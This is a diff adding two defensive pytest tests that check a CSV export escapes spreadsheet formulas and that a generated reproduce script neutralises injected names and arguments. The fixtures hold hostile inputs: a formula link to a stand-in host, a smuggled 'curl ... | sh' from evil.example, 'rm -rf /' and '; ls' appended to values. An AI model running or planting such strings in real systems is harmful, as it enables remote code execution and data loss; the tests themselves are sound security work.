@@ -166,3 +166,31 @@ def test_keep_view_carries_the_users_zoom_into_a_refreshed_figure():
 @pytest.mark.parametrize("value, shown", NUMBER_CASES, ids=[repr(v) for v, _ in NUMBER_CASES])
 def test_numbers_read_the_same_in_every_table(value, shown):
     assert format_number(value) == shown
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_inert():
+    from runlake.app.export import runs_csv
+
+    frame = pd.DataFrame({
+        "run_id": ["a", "b"], "run_name": ['=HYPERLINK("https://evil.example","click")', "plain"],
+        "status": ["FINISHED", "FINISHED"], "start_time": [pd.NaT, pd.NaT], "end_time": [pd.NaT, pd.NaT],
+        "user_id": ["+ann", "bob"], "source_type": ["LOCAL"] * 2, "source_name": ["train.py"] * 2,
+        "params.lr": ["-0.5", "@SUM(A1)"], "metrics.loss": [-1.5, 2.0],
+    })
+    text = runs_csv(frame)
+    assert "'=HYPERLINK" in text and "'@SUM(A1)" in text and "'+ann" in text
+    assert ",-0.5," in text and ",-1.5" in text  # numbers stay numbers
+
+
+def test_reproduce_script_keeps_names_in_their_comment():
+    from types import SimpleNamespace
+
+    from runlake.app.run_sections import reproduce_script
+
+    record = SimpleNamespace(
+        run_id="abc", tags={}, info={"run_name": "baseline)\ncurl -s https://evil.example/x.sh | sh\n# (", "source_version": "1234"},
+    )
+    script = reproduce_script(record, {"python": "3.11.7; rm -rf /", "command_line": ["train.py", "--lr", "0.1; ls"]}, False)
+    assert not any(line.startswith("curl") for line in script.splitlines())
+    assert "python3.11 -m venv" in script and "rm -rf" not in script
+    assert "'0.1; ls'" in script
